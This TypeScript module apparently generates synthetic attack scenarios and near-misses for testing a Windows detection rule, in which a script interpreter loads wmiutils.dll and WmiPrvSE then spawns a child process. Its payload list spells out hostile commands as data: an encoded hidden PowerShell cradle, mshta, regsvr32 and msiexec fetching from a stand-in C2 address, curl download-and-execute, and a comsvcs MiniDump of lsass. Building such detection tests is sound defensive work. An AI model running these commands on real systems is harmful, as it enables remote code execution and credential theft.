// Planted attacks and near-misses for the seed rule "Windows Script Interpreter Executing Process
// via WMI" (b64b183e-1a76-422d-9179-7b389513e74d):
//   sequence by host.id with maxspan = 5s
//     [library/image load of wmiutils.dll by cscript.exe or wscript.exe]
//     [process start, parent wmiprvse.exe, user.domain != "NT AUTHORITY",
//      pe.original_file_name in a LOLBin list, or executable under C:\Users\ or C:\ProgramData\]
// Background traffic never has cscript/wscript load wmiutils.dll and never has WmiPrvSE start a
// process as a non-"NT AUTHORITY" user, so the rule's ground truth is exactly the planted positives.
import { B, D, type Binary } from './catalog.js';
import type { Host, PlantLabel, Shape, SimEvent } from './model.js';
import { SHAPES } from './model.js';
import { stableHex, type Rng } from './prng.js';
import { SYSTEM, type World } from './world.js';

export type ScenarioKind =
  | 'positive'
  | 'nearmiss-maxspan'
  | 'nearmiss-ntauthority'
  | 'nearmiss-otherhost'
  | 'nearmiss-reversed'
  | 'nearmiss-noofn'
  | 'nearmiss-noofn-renamed';

export interface ScenarioPlan {
  id: string;
  kind: ScenarioKind;
  shape: Shape;
  /** Number of events the scenario emits (all labelled). */
  events: number;
}

export interface PlantedScenario extends ScenarioPlan {
  positive: boolean;
  /** Host of the image load (step 1) and of the child process (step 2); they differ only for "otherhost". */
  step1Host: { name: string; id: string };
  step2Host: { name: string; id: string };
  /** Microsecond epoch times of the two rule steps. */
  step1Us: number;
  step2Us: number;
  /** What the scenario tests, in words. */
  description: string;
}

const EVENTS_PER_SCENARIO = 4;

/**
 * The deterministic list of scenarios: per shape `positivesPerShape` positives, and one of each
 * near-miss kind (the no-OriginalFileName cases only exist for Sysmon, i.e. Winlogbeat and Agent).
 * Interleaved shape by shape so every part of the file has some of each.
 */
export function planScenarios(shapes: readonly Shape[], positivesPerShape: number, nearMisses: boolean, hostCount: number): ScenarioPlan[] {
  const plans: ScenarioPlan[] = [];
  const counters = new Map<string, number>();
  const add = (kind: ScenarioKind, shape: Shape): void => {
    const key = `${kind}-${shape}`;
    const n = (counters.get(key) ?? 0) + 1;
    counters.set(key, n);
    const id = kind === 'positive' ? `seed-positive-${shape}-${n}` : `seed-${kind}-${shape}-${n}`;
    plans.push({ id, kind, shape, events: EVENTS_PER_SCENARIO });
  };
  const nearKinds: ScenarioKind[] = ['nearmiss-maxspan', 'nearmiss-ntauthority', 'nearmiss-otherhost', 'nearmiss-reversed', 'nearmiss-noofn', 'nearmiss-noofn-renamed'];
  const rounds = Math.max(positivesPerShape, nearMisses ? nearKinds.length : 0);
  for (let r = 0; r < rounds; r++) {
    for (const shape of SHAPES) {
      if (!shapes.includes(shape)) continue;
      if (r < positivesPerShape) add('positive', shape);
      if (!nearMisses || r >= nearKinds.length) continue;
      const kind = nearKinds[r]!;
      if ((kind === 'nearmiss-noofn' || kind === 'nearmiss-noofn-renamed') && shape === 'defend') continue;
      if (kind === 'nearmiss-otherhost' && hostCount < 2) continue;
      add(kind, shape);
    }
  }
  return plans;
}

interface Payload {
  bin: Binary;
  exe?: (h: Host) => string;
  cmd: (h: Host) => string;
}

const C2 = '198.51.100.23';

function customBin(path: string, ofn: string, description: string): Binary {
  const id = path.toLowerCase();
  return {
    name: path.slice(path.lastIndexOf('\\') + 1), path, ofn, description, company: '', product: '', version: '1.0.0.0', signer: '',
    md5: stableHex(`md5:${id}`, 32), sha1: stableHex(`sha1:${id}`, 40), sha256: stableHex(`sha256:${id}`, 64), imphash: stableHex(`imp:${id}`, 32),
  };
}

/** Second-stage programs of the positives; each exercises a different branch of the rule's step 2. */
const PAYLOADS: readonly Payload[] = [
  { bin: B.powershell, cmd: () => 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA' },
  { bin: B.rundll32, cmd: (h) => `rundll32.exe C:\\Users\\${h.user.name}\\AppData\\Local\\Temp\\msupd.dll,DllRegisterServer` },
  { bin: B.mshta, cmd: () => `mshta.exe http://${C2}/invoice.hta` },
  { bin: B.regsvr32, cmd: () => `regsvr32.exe /s /n /u /i:http://${C2}/s.sct scrobj.dll` },
  { bin: B.cmd, cmd: () => `cmd.exe /c "curl -s http://${C2}/a -o %TEMP%\\a.exe && %TEMP%\\a.exe"` },
  { bin: customBin('C:\\ProgramData\\Updates\\svcupdate.exe', 'agent.exe', 'Update Service'), cmd: () => 'C:\\ProgramData\\Updates\\svcupdate.exe --install' },
  {
    bin: customBin('C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Teams\\update.exe', 'stage2.exe', ''),
    cmd: (h) => `C:\\Users\\${h.user.name}\\AppData\\Roaming\\Microsoft\\Teams\\update.exe -silent`,
  },
  { bin: B.msiexec, cmd: () => `msiexec.exe /q /i http://${C2}/pkg.msi` },
  { bin: B.msbuild, cmd: (h) => `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\${h.user.name}\\AppData\\Local\\Temp\\build.xml` },
];

export class Planter {
  private positives = 0;
  /** Earliest time (µs) a new scenario may start on each host, so scenarios never overlap within 5 s. */
  private readonly hostFree = new Map<Host, number>();
  private readonly nextHost = new Map<string, number>();

  constructor(
    private readonly world: World,
    private readonly rng: Rng,
    private readonly emit: (ev: SimEvent) => void,
  ) {}

  private hostsOf(shape: Shape): Host[] {
    return this.world.hosts.filter((h) => h.shape === shape);
  }

  /**
   * Positives and near-misses rotate over the shape's hosts separately (near-misses start further
   * along), so consecutive positives of a shape land on different hosts and Winlogbeat positives
   * cover both beat versions.
   */
  private pickHost(shape: Shape, positive: boolean): Host {
    const hosts = this.hostsOf(shape);
    const key = `${shape}:${positive}`;
    const i = this.nextHost.get(key) ?? (positive ? 0 : 3);
    this.nextHost.set(key, i + 1);
    return hosts[i % hosts.length]!;
  }

  private otherHost(a: Host): Host {
    const same = this.hostsOf(a.shape).filter((h) => h !== a);
    if (same.length > 0) return same[this.rng.int(0, same.length - 1)]!;
    return this.world.hosts.find((h) => h !== a)!;
  }

  /** Plants one scenario no earlier than `notBefore` (µs). Returns its record. */
  plant(plan: ScenarioPlan, notBefore: number): PlantedScenario {
    const rng = this.rng;
    const w = this.world;
    const a = this.pickHost(plan.shape, plan.kind === 'positive');
    const b = plan.kind === 'nearmiss-otherhost' ? this.otherHost(a) : a;
    const t0 = w.align(a, Math.max(notBefore, this.hostFree.get(a) ?? 0, this.hostFree.get(b) ?? 0));
    const label = (role: PlantLabel['role']): PlantLabel => ({ scenario: plan.id, role });
    const ms = 1000;

    // Context: the user opens a script (mail attachment saved to Downloads / Temp).
    const useWscript = rng.chance(0.5);
    const scriptHost = useWscript ? B.wscript : B.cscript;
    const scriptPath = useWscript
      ? `C:\\Users\\${a.user.name}\\Downloads\\Invoice_${rng.int(1000, 9999)}.js`
      : `C:\\Users\\${a.user.name}\\AppData\\Local\\Temp\\Rar$DIa${rng.int(1000, 9999)}.${rng.int(10000, 99999)}\\scan_${rng.int(100, 999)}.vbs`;
    const scriptCmd = useWscript ? `"C:\\Windows\\System32\\WScript.exe" "${scriptPath}"` : `"C:\\Windows\\System32\\cscript.exe" //nologo "${scriptPath}"`;
    const script = w.makeProc(a, scriptHost, a.core.explorer, a.user, t0, scriptCmd, 'Medium');
    this.emit({ kind: 'start', t: t0, host: a, proc: script, label: label('context') });

    // The script connects to WMI (wmiutils.dll loads) and calls Win32_Process.Create: WmiPrvSE starts
    // the payload under the caller's identity.
    let loadT = w.align(a, t0 + rng.int(80, 400) * ms);
    let childT: number;
    let payload: Payload = PAYLOADS[this.positives % PAYLOADS.length]!;
    let user = b.user;
    let omitOfn = false;
    let exeOverride: string | undefined;
    let description: string;
    switch (plan.kind) {
      case 'positive':
        this.positives++;
        childT = loadT + rng.int(150, 4800) * ms;
        description = `wmiutils.dll load then ${payload.bin.name} from WmiPrvSE.exe as ${b.user.domain}\\${b.user.name} after ${(childT - loadT) / 1000} ms`;
        break;
      case 'nearmiss-maxspan':
        payload = PAYLOADS[0]!;
        childT = loadT + 5001 * ms;
        description = 'child starts 5001 ms after the load, 1 ms beyond maxspan=5s';
        break;
      case 'nearmiss-ntauthority':
        payload = PAYLOADS[0]!;
        user = SYSTEM;
        childT = loadT + rng.int(200, 3000) * ms;
        description = 'child runs as NT AUTHORITY\\SYSTEM';
        break;
      case 'nearmiss-otherhost':
        payload = PAYLOADS[1]!;
        childT = w.align(b, loadT + rng.int(200, 3000) * ms);
        description = `load on ${a.name}, child on ${b.name} (different host.id)`;
        break;
      case 'nearmiss-reversed':
        payload = PAYLOADS[4]!;
        // The child comes first; the load follows 1.5 s later and nothing matching follows it.
        childT = loadT;
        loadT = childT + 1500 * ms;
        description = 'child process starts 1500 ms before the wmiutils.dll load';
        break;
      case 'nearmiss-noofn':
        payload = { bin: B.rundll32, cmd: () => 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll,MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full' };
        omitOfn = true;
        childT = loadT + rng.int(150, 600) * ms;
        description = 'Sysmon < 10: rundll32.exe in System32 without OriginalFileName (as in sysmon-wmi-cscript-comsvcs.evtx)';
        break;
      case 'nearmiss-noofn-renamed':
        payload = { bin: B.rundll32, cmd: () => `C:\\Windows\\Temp\\wmisync.exe C:\\Windows\\Temp\\k.dat,Start` };
        exeOverride = 'C:\\Windows\\Temp\\wmisync.exe';
        omitOfn = true;
        childT = loadT + rng.int(150, 600) * ms;
        description = 'Sysmon < 10: rundll32 copied to C:\\Windows\\Temp\\wmisync.exe, no OriginalFileName';
        break;
    }
    const exe = exeOverride ?? (payload.exe ? payload.exe(b) : undefined);
    const child = w.makeProc(b, payload.bin, b.core.wmiprvse, user, childT, payload.cmd(b), user.system ? 'System' : 'Medium', exe);
    child.omitOfn = omitOfn;
    child.cwd = 'C:\\Windows\\system32\\';

    this.emit({ kind: 'load', t: loadT, host: a, proc: script, dll: D.wmiutils, label: label('step1') });
    this.emit({ kind: 'start', t: childT, host: b, proc: child, label: label('step2') });
    const endT = w.align(a, Math.max(loadT, childT) + rng.int(300, 2000) * ms);
    script.ended = true;
    a.pids.delete(script.pid);
    this.emit({ kind: 'end', t: endT, host: a, proc: script, exitCode: 0, label: label('context') });

    // Keep the next scenario on these hosts well clear of this one's 5 s window.
    const free = endT + 12_000 * ms;
    this.hostFree.set(a, free);
    this.hostFree.set(b, Math.max(free, this.hostFree.get(b) ?? 0));
    return {
      ...plan,
      positive: plan.kind === 'positive',
      step1Host: { name: a.name, id: a.id },
      step2Host: { name: b.name, id: b.id },
      step1Us: loadT,
      step2Us: childT,
      description,
    };
  }
}
